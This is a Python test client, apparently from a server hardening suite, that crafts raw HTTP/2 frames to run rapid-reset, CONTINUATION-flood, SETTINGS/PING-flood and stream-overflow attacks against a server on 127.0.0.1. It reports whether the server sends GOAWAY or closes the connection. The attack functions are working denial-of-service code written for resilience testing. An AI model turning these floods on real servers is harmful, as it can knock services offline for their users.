#!/usr/bin/env python3
"""HTTP/2 abuse client for h2-abuse.sh: crafts frames with hyperframe and hpack (the framing
and header-compression layers of the `h2` package) over TLS with ALPN h2, because the h2 state
machine itself refuses to send what an attacker sends.

Usage: h2_abuse.py PORT CA_FILE ATTACK
ATTACK: rapid-reset | continuation | settings | ping | streams
Prints one line: RESULT ATTACK goaway=<code name or none> closed=<yes|no> seconds=<to close>
frames=<frames sent> refused=<RST_STREAM REFUSED_STREAM received>. Bounded: at most a few
thousand frames and 10 s of waiting per attack; traffic only to 127.0.0.1.
"""
import socket
import ssl
import sys
import time

from hpack import Encoder
from hyperframe.frame import (ContinuationFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
          4: "SETTINGS_TIMEOUT", 5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM",
          8: "CANCEL", 9: "COMPRESSION_ERROR", 10: "CONNECT_ERROR", 11: "ENHANCE_YOUR_CALM",
          12: "INADEQUATE_SECURITY", 13: "HTTP_1_1_REQUIRED"}


class Client:
    def __init__(self, port, ca):
        context = ssl.create_default_context(cafile=ca)
        context.set_alpn_protocols(["h2"])
        raw = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.sock = context.wrap_socket(raw, server_hostname="localhost")
        assert self.sock.selected_alpn_protocol() == "h2", "server did not select h2"
        self.buffer = b""
        self.encoder = Encoder()
        self.goaway = None
        self.closed = False
        self.refused = 0
        self.sent = 0
        self.sock.sendall(PREFACE + SettingsFrame(0).serialize())
        # Read the server's SETTINGS and acknowledge it, so that its limits are in force.
        while True:
            frame = self.read_frame(5)
            if frame is None:
                raise RuntimeError("no SETTINGS from the server")
            if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                self.sock.sendall(SettingsFrame(0, flags=["ACK"]).serialize())
                break

    def headers(self, stream, end_stream, end_headers=True, extra=()):
        block = self.encoder.encode([(":method", "POST"), (":scheme", "https"), (":authority", "localhost"),
                                     (":path", "/mutate"), ("content-type", "application/json"), *extra])
        flags = (["END_HEADERS"] if end_headers else []) + (["END_STREAM"] if end_stream else [])
        return HeadersFrame(stream, data=block, flags=flags).serialize()

    def send(self, data, frames):
        """Sends; False once the server has closed (or stopped reading for 5 s)."""
        try:
            self.sock.settimeout(5)
            self.sock.sendall(data)
            self.sent += frames
            return True
        except (BrokenPipeError, ConnectionResetError, ssl.SSLError, socket.timeout, OSError):
            return False

    def read_frame(self, timeout):
        deadline = time.monotonic() + timeout
        while True:
            if len(self.buffer) >= 9:
                frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
                if len(self.buffer) >= 9 + length:
                    frame.parse_body(memoryview(self.buffer[9:9 + length]))
                    self.buffer = self.buffer[9 + length:]
                    self.observe(frame)
                    return frame
            left = deadline - time.monotonic()
            if left <= 0:
                return None
            self.sock.settimeout(left)
            try:
                chunk = self.sock.recv(65536)
            except socket.timeout:
                return None
            except (ConnectionResetError, ssl.SSLError, OSError):
                chunk = b""
            if not chunk:
                self.closed = True
                return None
            self.buffer += chunk

    def observe(self, frame):
        if isinstance(frame, GoAwayFrame) and self.goaway is None:
            self.goaway = frame.error_code
        if isinstance(frame, RstStreamFrame) and frame.error_code == 7:
            self.refused += 1

    def drain(self, timeout=10):
        """Reads until the server closes the connection or `timeout` passes."""
        start = time.monotonic()
        deadline = start + timeout
        while not self.closed and time.monotonic() < deadline:
            self.read_frame(deadline - time.monotonic())
        return time.monotonic() - start


def rapid_reset(c):
    # CVE-2023-44487: open a stream and cancel it at once, thousands of times.
    stream = 1
    for _ in range(50):
        batch = b""
        for _ in range(100):
            batch += c.headers(stream, end_stream=False) + RstStreamFrame(stream, error_code=8).serialize()
            stream += 2
        if not c.send(batch, 200):
            return


def continuation(c):
    # CVE-2024-27316 family: a header block that never ends, one CONTINUATION after another.
    first = c.headers(1, end_stream=True, end_headers=False)
    if not c.send(first, 1):
        return
    for i in range(20):
        batch = b""
        for j in range(100):
            block = c.encoder.encode([("x-flood-%d" % (i * 100 + j), "a" * 16)])
            batch += ContinuationFrame(1, data=block).serialize()
        if not c.send(batch, 100):
            return


def settings(c):
    for _ in range(20):
        if not c.send(SettingsFrame(0).serialize() * 1000, 1000):
            return


def ping(c):
    for _ in range(20):
        if not c.send(PingFrame(0, opaque_data=b"12345678").serialize() * 1000, 1000):
            return


def streams(c):
    # More concurrent streams than SETTINGS_MAX_CONCURRENT_STREAMS (100): requests whose body
    # never comes keep their streams open.
    batch = b"".join(c.headers(1 + 2 * i, end_stream=False) for i in range(150))
    c.send(batch, 150)


ATTACKS = {"rapid-reset": rapid_reset, "continuation": continuation, "settings": settings,
           "ping": ping, "streams": streams}


def main():
    port, ca, attack = int(sys.argv[1]), sys.argv[2], sys.argv[3]
    c = Client(port, ca)
    ATTACKS[attack](c)
    seconds = c.drain(10)
    goaway = "none" if c.goaway is None else ERRORS.get(c.goaway, str(c.goaway))
    print("RESULT %s goaway=%s closed=%s seconds=%.2f frames=%d refused=%d"
          % (attack, goaway, "yes" if c.closed else "no", seconds, c.sent, c.refused))


if __name__ == "__main__":
    main()
